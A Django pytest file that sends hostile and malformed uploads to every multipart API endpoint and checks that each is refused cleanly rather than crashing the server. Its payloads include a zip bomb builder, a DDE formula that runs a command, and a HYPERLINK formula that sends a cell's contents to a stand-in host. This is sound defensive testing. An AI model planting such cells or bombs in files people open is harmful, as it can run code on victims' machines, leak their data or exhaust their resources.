"""Every upload endpoint, fed what people and attackers send: a clear error, never a 5xx.

The endpoints are not listed by hand: every operation of the OpenAPI document whose body is
multipart/form-data with a binary field is one (documents' versions, task imports, and whatever
lands later). Each gets, as a superuser (so that the file is really read, not refused at the door):
a program renamed .xlsx, a picture renamed .docx, a truncated workbook, a file over the size limit,
a zip bomb, CSV and XLSX text in the legacy Vietnamese encodings TCVN3 and VNI, and cells that would
run as formulas in a spreadsheet. Wrong, truncated, oversized and bomb files must be refused with
a 4xx and a message; legacy text and formula-looking cells may be accepted or refused, never a 5xx.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from kvpt.core.testing.matrix import (
    _resolve,
    api_operations,
    api_param_value,
    build_objects,
    example,
    openapi_document,
)
from kvpt.core.testing.world import World

pytestmark = pytest.mark.django_db

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Vietnamese as the old 8-bit fonts stored it: TCVN3 (.VnTime) and VNI (VNI-Times) bytes.
TCVN3_TEXT = "M· c«ng viÖc,Tªn c«ng viÖc\nCV-01,ChuÈn bÞ v¨n kiÖn diÔn tËp\n"
VNI_TEXT = "Maõ coâng vieäc,Teân coâng vieäc\nCV-01,Chuaån bò vaên kieän dieãn taäp\n"
FORMULAS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
]


def _xlsx(rows: list[list[Any]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _zip_bomb() -> bytes:
    """An XLSX-looking archive whose sheet expands a thousandfold (40 MB of zeros)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            chunk = b"0" * (1024 * 1024)
            for _ in range(40):
                entry.write(chunk)
    return buffer.getvalue()


@dataclass(frozen=True)
class Payload:
    name: str
    filename: str
    content_type: str
    make: Callable[[], bytes]
    must_refuse: bool


def _workbook() -> bytes:
    return _xlsx([["Mã", "Tên công việc"], ["CV-01", "Chuẩn bị văn kiện"]])


PAYLOADS = [
    Payload("a program renamed .xlsx", "ke-hoach.xlsx", XLSX_TYPE,
            lambda: b"MZ\x90\x00\x03" + b"\x00" * 2048, must_refuse=True),
    Payload("a picture renamed .docx", "van-kien.docx", "application/octet-stream",
            lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 2048, must_refuse=True),
    Payload("a truncated workbook", "ke-hoach.xlsx", XLSX_TYPE,
            lambda: _workbook()[: len(_workbook()) // 2], must_refuse=True),
    Payload("an empty file", "trong.xlsx", XLSX_TYPE, lambda: b"", must_refuse=True),
    Payload("a file over the size limit", "lon.xlsx", XLSX_TYPE,
            lambda: b"PK\x03\x04" + b"\x00" * (3 * 1024 * 1024), must_refuse=True),
    Payload("a zip bomb", "bom.xlsx", XLSX_TYPE, _zip_bomb, must_refuse=True),
    Payload("TCVN3 text in a CSV", "tcvn3.csv", "text/csv",
            lambda: TCVN3_TEXT.encode("latin-1"), must_refuse=False),
    Payload("VNI text in a CSV", "vni.csv", "text/csv",
            lambda: VNI_TEXT.encode("cp1252"), must_refuse=False),
    Payload("TCVN3 text in a workbook", "tcvn3.xlsx", XLSX_TYPE,
            lambda: _xlsx([r.split(",") for r in TCVN3_TEXT.splitlines()]), must_refuse=False),
    Payload("formula injection in a workbook", "cong-thuc.xlsx", XLSX_TYPE,
            lambda: _xlsx([["Mã", "Tên công việc"], *[[f"CV-{i}", f] for i, f in
                                                     enumerate(FORMULAS)]]),
            must_refuse=False),
]  # fmt: skip


def upload_operations(document: dict[str, Any]) -> list[tuple[Any, list[str], dict[str, Any]]]:
    """(operation, its binary fields, its form schema) for every multipart operation."""
    found = []
    for operation in api_operations(document):
        media = (operation.body or {}).get("multipart/form-data")
        if not media:
            continue
        schema = _resolve(media["schema"], document)
        files = [
            name
            for name, field in schema.get("properties", {}).items()
            if _is_binary(_resolve(field, document), document)
        ]
        if files:
            found.append((operation, files, schema))
    return found


def _is_binary(field: dict[str, Any], document: dict[str, Any]) -> bool:
    if field.get("format") == "binary":
        return True
    if field.get("type") == "array":
        return _is_binary(_resolve(field.get("items", {}), document), document)
    return any(_is_binary(_resolve(o, document), document) for o in field.get("anyOf", []))


def test_the_enumeration_finds_a_multipart_operation_in_a_synthetic_document() -> None:
    """The walk itself works, whatever the project's API holds today."""
    document = {
        "paths": {
            "/api/v1/things/{thing_id}/files": {
                "post": {
                    "operationId": "upload",
                    "parameters": [{"name": "thing_id", "in": "path"}],
                    "requestBody": {
                        "content": {
                            "multipart/form-data": {"schema": {"$ref": "#/components/schemas/Form"}}
                        }
                    },
                }
            },
            "/api/v1/things": {"get": {"operationId": "list"}},
        },
        "components": {
            "schemas": {
                "Form": {
                    "type": "object",
                    "properties": {
                        "file": {"type": "string", "format": "binary"},
                        "note": {"type": "string"},
                    },
                }
            }
        },
    }
    found = upload_operations(document)
    assert [(str(op), files) for op, files, _ in found] == [
        ("POST /api/v1/things/{thing_id}/files", ["file"])
    ]


def test_the_project_has_upload_endpoints_and_each_is_found() -> None:
    found = {str(op) for op, _, _ in upload_operations(openapi_document())}
    assert found, "no multipart operation in the OpenAPI document"


def _post(
    client: Client,
    url: str,
    fields: dict[str, Any],
    files: list[str],
    payload: Payload,
    content: bytes,
) -> Any:
    data = dict(fields)
    for name in files:
        data[name] = SimpleUploadedFile(payload.filename, content, payload.content_type)
    return client.post(url, data)


def test_every_upload_endpoint_refuses_bad_files_clearly_and_never_fails(
    world: World,
    settings: Any,
    tmp_path: Any,
    api_client_for: Callable[[Any], Client],
) -> None:
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.KVPT_MAX_UPLOAD_MB = 2
    settings.KVPT_MAX_IMPORT_MB = 2
    document = openapi_document()
    objects = build_objects(world)
    client = api_client_for(world.admin)
    contents = {payload.name: payload.make() for payload in PAYLOADS}
    problems: list[str] = []
    operations = upload_operations(document)
    for operation, files, schema in operations:
        values = {name: api_param_value(name, objects, operation.path) for name in operation.params}
        if None in values.values():
            problems.append(f"{operation}: cannot fill {values} (see test_security_matrix_api)")
            continue
        url = operation.path.format(**values)
        fields = {
            key: value
            for key, value in (example(schema, document) or {}).items()
            if key not in files and value is not None
        }
        for payload in PAYLOADS:
            response = _post(client, url, fields, files, payload, contents[payload.name])
            status = response.status_code
            what = f"{operation} with {payload.name}"
            if status >= 500:
                problems.append(f"{what}: {status}")
                continue
            if payload.must_refuse and status < 400:
                problems.append(f"{what} was accepted ({status})")
                continue
            if status >= 400:
                body = response.json() if "json" in response.get("Content-Type", "") else {}
                messages = [body.get("detail", "")] + [
                    e.get("message", "") for e in body.get("errors", [])
                ]
                if not any(messages):
                    problems.append(f"{what}: {status} without a message")
    assert operations
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems)
